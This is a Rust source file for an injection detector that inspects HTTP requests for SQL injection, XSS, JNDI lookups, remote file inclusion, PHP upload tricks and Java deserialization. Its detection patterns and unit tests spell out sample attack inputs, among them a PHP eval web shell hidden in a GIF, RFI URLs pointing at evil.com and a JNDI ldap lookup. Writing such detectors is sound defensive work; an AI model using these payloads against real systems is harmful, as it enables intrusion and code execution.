//! Injection payloads in the path, query, cookie and free-text header
//! values and the sampled body, each decoded first ([`super::decode`]):
//! `injection_sqli` (tokenizer-based, [`sqli`]), `injection_xss`,
//! `injection_path_traversal` and `injection_command` ([`patterns`]), and
//! the other families ([`families`]: CRLF, JNDI, SSTI, XXE, SSRF, LDAP,
//! SSI, mail, RFI, PHP, Java, code, prototype pollution, session fixation,
//! leftover files), and uploads by the name they are stored under
//! ([`uploads`]). A value that is base64 is inspected decoded as well.
//! One finding per kind per request.

mod differential;
pub mod families;
pub mod paranoid;
pub mod patterns;
mod sql_words;
pub mod sqli;
pub mod uploads;
pub mod urls;

use std::sync::{Arc, LazyLock};

use serde_json::json;

use super::{
    Detector, Prepare, Prepared,
    config::InjectionConfig,
    decode,
    fields::{Place, header_values, values},
};
use crate::{analysis::Reporter, finding::Kind, observe::Observation, parse::Request};

/// Characters of a path or query payload quoted in a finding (bodies are
/// never quoted: they may hold passwords).
const SAMPLE: usize = 96;

/// One injection found in a request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hit {
    /// Finding kind.
    pub kind: Kind,
    /// The shape or pattern that matched.
    pub shape: &'static str,
    /// Where.
    pub place: Place,
    /// The start of the value (path and query only).
    pub sample: Option<String>,
}

/// Short or without any byte an injection needs (letters, digits and
/// `-_` only: no quote, operator, space, dot, slash or parenthesis).
fn plain(v: &str) -> bool {
    v.len() < 2
        || v.bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-'))
}

/// Java gadget vocabulary: suspicious only inside a base64 value (a
/// serialized payload), where no ordinary text would put it.
static BASE64_JAVA: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(
        r"java\.|runtime|processbuilder|classloader|transformer|(?:for|while)closure|serializationfactory|clonefactory|instantiatefactory|templatesimpl|lazymap|invocationhandler",
    )
    .expect("pattern compiles")
});

/// What one request's inspection found so far.
struct Found<'r> {
    hits: Vec<Hit>,
    paranoia: u8,
    host: Option<&'r str>,
}

impl Found<'_> {
    fn add(&mut self, kind: Kind, shape: &'static str, place: Place, v: &str) {
        if self.hits.iter().any(|h| h.kind == kind) {
            return;
        }
        self.hits.push(Hit {
            kind,
            shape,
            place,
            sample: place.quotable().then(|| v.chars().take(SAMPLE).collect()),
        });
    }

    /// Every family on one decoded value and on the other ways a server
    /// may read it: compatibility characters folded, JavaScript escapes
    /// undone, and (for markup only) the high bit dropped.
    fn value(&mut self, place: Place, v: &str) {
        self.view(place, v);
        let folded = decode::compatibility(v);
        let unescaped = decode::js_escapes(v);
        for other in [folded.as_deref(), unescaped.as_deref()]
            .into_iter()
            .flatten()
        {
            self.view(place, other);
        }
        for text in std::iter::once(v).chain(unescaped.as_deref()) {
            let Some(masked) = decode::seven_bit(text) else {
                continue;
            };
            let lower = masked.to_ascii_lowercase();
            for (kind, shape) in patterns::detect(&lower, false) {
                if kind == Kind::InjectionXss {
                    self.add(kind, shape, place, v);
                }
            }
        }
    }

    /// Every family on one view of a value. A plain value (letters,
    /// digits, `-`) carries no syntax: only a session parameter's name is
    /// looked for in it.
    fn view(&mut self, place: Place, v: &str) {
        if plain(v) {
            // The base64 of a serialized Java object's magic (AC ED 00 05)
            // at any of the three alignments is plain text too.
            if ["rO0AB", "KztAA", "s7QAF"].iter().any(|m| v.contains(m)) {
                self.add(
                    Kind::InjectionJava,
                    "serialized java object (base64)",
                    place,
                    v,
                );
            }
            if let Some(shape) = families::session_name(place, &v.to_ascii_lowercase()) {
                self.add(Kind::SessionFixation, shape, place, v);
            }
            // A value that is a system catalog's name alone (`msdb`).
            if sqli::catalog_word(v) {
                self.add(Kind::InjectionSqli, "catalog name", place, v);
            }
            return;
        }
        let lower = v.to_ascii_lowercase();
        for (kind, shape) in families::detect(place, &lower) {
            self.add(kind, shape, place, v);
        }
        for (kind, shape) in paranoid::detect(self.paranoia, place, &lower, self.host) {
            self.add(kind, shape, place, v);
        }
        if place == Place::Header && patterns::command_line(&lower) {
            self.add(Kind::InjectionCommand, "command line in a header", place, v);
        }
        let prose =
            matches!(place, Place::Body | Place::Header) && v.split_whitespace().nth(2).is_some();
        for (kind, shape) in patterns::detect(&lower, prose) {
            self.add(kind, shape, place, v);
        }
        let split = || decode::without_inline_comments(v).and_then(|w| sqli::detect(&w));
        if let Some(shape) = sqli::detect(v).or_else(split) {
            self.add(Kind::InjectionSqli, shape, place, v);
        }
    }
}

/// Every injection in a request, at most one per kind.
pub fn inspect(cfg: &InjectionConfig, req: &Request) -> Vec<Hit> {
    let mut found = Found {
        hits: Vec::new(),
        paranoia: cfg.paranoia,
        host: req.host.as_deref(),
    };
    // A line break in a parameter's name: nothing legitimate puts one
    // there (header injection through the names).
    if let Some(q) = &req.query
        && q.to_ascii_lowercase().contains("%0")
        && form_urlencoded::parse(q.as_bytes()).any(|(k, _)| k.contains(['\r', '\n']))
    {
        found.add(
            Kind::InjectionCrlf,
            "line break in a parameter name",
            Place::Query,
            q,
        );
    }
    if let Some(why) = req
        .content_type
        .as_deref()
        .and_then(families::content_type_confusion)
    {
        found.add(Kind::EvasionContentType, why, Place::Header, "");
    }
    for (place, why) in differential::confusion(req) {
        found.add(Kind::EvasionParserConfusion, why, place, "");
    }
    // A remote URL where a parameter names a local file to include (a
    // second pass over the query, for its pairs, only when it holds a
    // `//`, plain or escaped).
    if let Some(q) = req
        .query
        .as_deref()
        .filter(|q| q.contains("//") || q.contains("%2f") || q.contains("%2F"))
    {
        // The raw pairs first: an encoded delimiter in a URL's user info
        // is gone once the value is decoded.
        for raw in q
            .split('&')
            .filter_map(|p| p.split_once('=').map(|(_, v)| v))
        {
            if urls::disguised_authority(raw) {
                found.add(
                    Kind::InjectionRfi,
                    "remote host disguised by user info",
                    Place::Query,
                    raw,
                );
            }
        }
        for (k, v) in crate::detect::fields::form_pairs(q.as_bytes()) {
            if families::remote_include(&k.to_ascii_lowercase(), &decode::deep(&v)) {
                found.add(
                    Kind::InjectionRfi,
                    "remote url for a file parameter",
                    Place::Query,
                    &v,
                );
            }
        }
    }
    for (place, name) in uploads::names(req) {
        if let Some((kind, shape)) = uploads::judge(&name) {
            found.add(kind, shape, place, &name);
        }
    }
    for (place, v) in values(req, cfg.max_value_bytes) {
        found.value(place, &v);
        for bytes in decode::base64_bytes(&v) {
            if decode::java_serialized(&bytes) {
                found.add(
                    Kind::InjectionJava,
                    "serialized java object (base64)",
                    place,
                    &v,
                );
            } else if v.len() >= decode::MIN_BASE64_TEXT
                && let Some(text) = decode::printable(&bytes)
            {
                if BASE64_JAVA.is_match(&text.to_ascii_lowercase()) {
                    found.add(Kind::InjectionJava, "java gadget name (base64)", place, &v);
                }
                found.value(place, &text);
            }
        }
    }
    // Lookups ride any header, structured ones included (only a header
    // block with a `$` or `%` can hold one).
    let lookups = req
        .user_agent
        .as_deref()
        .is_some_and(|u| u.contains(['$', '%']))
        || req.headers.0.contains(['$', '%']);
    for v in header_values(req, true).into_iter().filter(|_| lookups) {
        let v = decode::deep(&v);
        let lower = v.to_ascii_lowercase();
        if lower.contains("${")
            && let Some((kind, shape)) = families::detect(Place::Header, &lower)
                .into_iter()
                .find(|(k, _)| *k == Kind::InjectionJndi)
        {
            found.add(kind, shape, Place::Header, &v);
        }
    }
    found.hits
}

/// The injection detector: stateless, a finding per kind per request.
/// The inspection itself is its [`Prepare`], so the engine may run it on
/// a worker thread.
pub struct Injection(Arc<Inspector>);

/// [`inspect`] with its configuration.
struct Inspector(InjectionConfig);

impl Prepare for Inspector {
    fn prepare(&self, obs: &Observation) -> Prepared {
        Box::new(inspect(&self.0, &obs.request))
    }
}

impl Injection {
    /// The detector, its patterns compiled (a first request must not wait
    /// for that: it is the one an attacker's first probe lands on).
    pub fn new(cfg: InjectionConfig) -> Self {
        families::warm();
        paranoid::warm();
        patterns::warm();
        LazyLock::force(&BASE64_JAVA);
        let _ = sqli::detect("' or 1=1--");
        Self(Arc::new(Inspector(cfg)))
    }
}

impl Detector for Injection {
    fn name(&self) -> &'static str {
        "injection"
    }

    /// Reports what the inspection of one request found (run here when no
    /// worker did it).
    fn observe(&mut self, emit: &mut Reporter<'_>) {
        let obs = emit.observation();
        let own;
        let hits = if let Some(h) = emit.prepared::<Vec<Hit>>() {
            h
        } else {
            own = inspect(&self.0.0, &obs.request);
            &own
        };
        for h in hits {
            let mut detail = json!({ "place": h.place.as_str(), "shape": h.shape });
            if let Some(s) = &h.sample {
                detail["sample"] = json!(s);
            }
            emit.finding(h.kind, obs.time, detail);
        }
    }

    fn preparer(&self) -> Option<Arc<dyn Prepare>> {
        Some(self.0.clone())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The kinds a POST of `body` as `content_type` is found with.
    fn post(
        path: &str,
        query: Option<&str>,
        content_type: &str,
        body: Vec<u8>,
    ) -> Vec<&'static str> {
        let req = Request {
            method: "POST".into(),
            path: path.into(),
            query: query.map(Into::into),
            content_type: Some(content_type.into()),
            body,
            ..Request::default()
        };
        inspect(&InjectionConfig::default(), &req)
            .into_iter()
            .map(|h| h.kind.name())
            .collect()
    }

    fn found(query: &str, body: &str) -> Vec<&'static str> {
        post(
            "/f",
            Some(query),
            "application/x-www-form-urlencoded",
            body.as_bytes().to_vec(),
        )
    }

    #[test]
    fn other_readings_of_a_value_are_inspected() {
        // Fullwidth forms fold to ASCII (NFKC).
        assert_eq!(
            found(
                "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
                ""
            ),
            ["injection_xss"]
        );
        // JavaScript escapes, in a value that reaches an eval.
        assert_eq!(found("q=c\\u006fnsole.info(1)", ""), ["injection_code"]);
        // The high bit dropped (US-ASCII charset): `¼script¾`.
        assert_eq!(
            found("", "v=%BCscript%BEalert(%A2XSS%A2)%BC/script%BE"),
            ["injection_xss"]
        );
        assert_eq!(
            found("", "v=\\xbcscript\\xbealert(1)\\xbc/script\\xbe"),
            ["injection_xss"]
        );
        // A JSON body labelled as a form is still read as JSON.
        assert_eq!(
            found("", "{\"username__startswith\":\"p\"}"),
            ["injection_orm"]
        );
        // Named character references a Java or PHP decoder knows.
        assert_eq!(
            found("", "v=$%26lbrace;jndi:ldap://x.test/a}"),
            ["injection_jndi"]
        );
    }

    #[test]
    fn remote_urls_for_file_parameters_are_inclusions() {
        assert_eq!(found("_CONF[path]=https://foo.test", ""), ["injection_rfi"]);
        assert_eq!(
            found("mosConfig_absolute_path=http://x.test/s.txt", ""),
            ["injection_rfi"]
        );
        assert_eq!(found("template=%2F%2Fx.test%2Fa", ""), ["injection_rfi"]);
        for q in [
            "x=http://example.com%2f@evil.com/",
            "x=http://example.com%2f:foo@bar@evil.com/",
            "x=https://trusted.test%5C@evil.com",
        ] {
            assert_eq!(found(q, ""), ["injection_rfi"], "{q}");
        }
        for q in [
            "redirect_uri=https://partner.test/cb",
            "page=https://example.test/article",
            "path=/var/www/a",
            "image_url=https://cdn.test/a.png",
            "profile=https://medium.com/@someone",
            "next=https%3A%2F%2Fmedium.com%2F%40someone",
            "u=https://user:pa%2Fss@partner.test/",
        ] {
            assert!(found(q, "").is_empty(), "{q}: {:?}", found(q, ""));
        }
    }

    #[test]
    fn content_types_that_pick_the_wrong_parser() {
        let kinds = |ct: &str| {
            let req = Request {
                method: "POST".into(),
                path: "/p".into(),
                content_type: Some(ct.into()),
                ..Request::default()
            };
            inspect(&InjectionConfig::default(), &req)
                .into_iter()
                .map(|h| h.kind.name())
                .collect::<Vec<_>>()
        };
        for ct in [
            "application/x-www-form-urlencoded;boundary=\"application/json\"",
            "application/json; charset=\"text/xml\"",
            "application/json, application/xml",
            "text/plain\"",
        ] {
            assert_eq!(kinds(ct), ["evasion_content_type"], "{ct}");
        }
        for ct in [
            "application/json",
            "application/vnd.mycompany.myapp.customer-v2+json",
            "text/html; charset=UTF-8",
            "multipart/form-data; boundary=----webkitformboundary12w4lszoxn26vnd",
            "multipart/related; type=\"application/xop+xml\"; boundary=x",
            "application/soap+xml; action=\"urn:a\"",
        ] {
            assert!(kinds(ct).is_empty(), "{ct}: {:?}", kinds(ct));
        }
    }

    #[test]
    fn mail_commands_need_their_arguments() {
        assert_eq!(
            found("", "t=%0d%0aa001+STATUS+INBOX+(MESSAGES)"),
            ["injection_mail"]
        );
        assert_eq!(found("", "t=%0d%0aRETR+123"), ["injection_mail"]);
        for body in [
            "t=Hello%0d%0awe+search+for+a+flat+near+the+station",
            "t=Shopping%0d%0aI+list+what+we+need",
            "t=Line+one%0d%0aStatus+is+fine",
        ] {
            assert!(found("", body).is_empty(), "{body}: {:?}", found("", body));
        }
    }

    #[test]
    fn ordinary_accented_text_is_not_markup() {
        for body in [
            "comment=%C3%BCber+die+Br%C3%BCcke+%C3%A0+la+carte+%C2%BC+cup+%C2%BE+full",
            "name=Fran%C3%A7oise+M%C3%BCller&city=K%C3%B6ln",
            "note=%EF%BC%88fullwidth+parens%EF%BC%89+and+%E3%80%82dots",
        ] {
            assert!(found("", body).is_empty(), "{body}: {:?}", found("", body));
        }
    }

    fn upload(filename: &str, part_type: &str, bytes: &[u8]) -> Vec<&'static str> {
        let mut body = format!(
            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: {part_type}\r\n\r\n"
        )
        .into_bytes();
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n--b--\r\n");
        post("/upload", None, "multipart/form-data; boundary=b", body)
    }

    #[test]
    fn uploads_are_judged_by_their_name_and_their_bytes() {
        // A script labelled as an image, under an image's name: its bytes
        // are text, so they are read.
        let polyglot = upload(
            "cat.jpg",
            "image/jpeg",
            b"GIF89a;<?php @eval($_POST['x']); ?>",
        );
        assert!(polyglot.contains(&"injection_php"), "{polyglot:?}");
        assert_eq!(
            upload("cat.php.jpg", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
            ["injection_php"]
        );
        assert_eq!(
            upload(".htaccess", "text/plain", b"AddType x-httpd-php .jpg"),
            ["upload_restricted_file"]
        );
        // A real image whose bytes happen to hold separators and quotes.
        assert!(
            upload(
                "cat.jpg",
                "image/jpeg",
                b"\xff\xd8\xff\xe0;|`$(id)' OR '1'='1<script>"
            )
            .is_empty()
        );
        assert!(
            upload(
                "notes.txt",
                "text/plain",
                b"Meeting notes: bring the slides"
            )
            .is_empty()
        );
    }

    #[test]
    fn parser_differentials_in_names_and_cookies() {
        assert_eq!(
            found("foo[1]a=bar&foo[1]b=x", ""),
            ["evasion_parser_confusion"]
        );
        assert_eq!(found("q=1", "ids[0]x=5"), ["evasion_parser_confusion"]);
        assert!(found("ids[0][name]=a&ids[]=b", "tags[]=x").is_empty());
        let with_cookie = |c: &str| {
            let req = Request {
                method: "GET".into(),
                path: "/".into(),
                cookies: Some(crate::parse::Hidden(c.into())),
                ..Request::default()
            };
            inspect(&InjectionConfig::default(), &req)
                .into_iter()
                .map(|h| h.kind.name())
                .collect::<Vec<_>>()
        };
        assert_eq!(
            with_cookie("$Version=1; session=\"deadbeef; PHPSESSID=secret\""),
            ["evasion_parser_confusion"]
        );
        assert!(with_cookie("MyVersion=1; PHPSESSID=secret").is_empty());
    }

    #[test]
    fn a_catalog_name_alone_is_sqli_but_a_word_containing_one_is_not() {
        assert_eq!(found("db=tempdb", ""), ["injection_sqli"]);
        assert_eq!(found("q=1", "MSysAccessObjects"), ["injection_sqli"]);
        assert!(found("db=tempdb2&x=cmsdb", "").is_empty());
    }
}
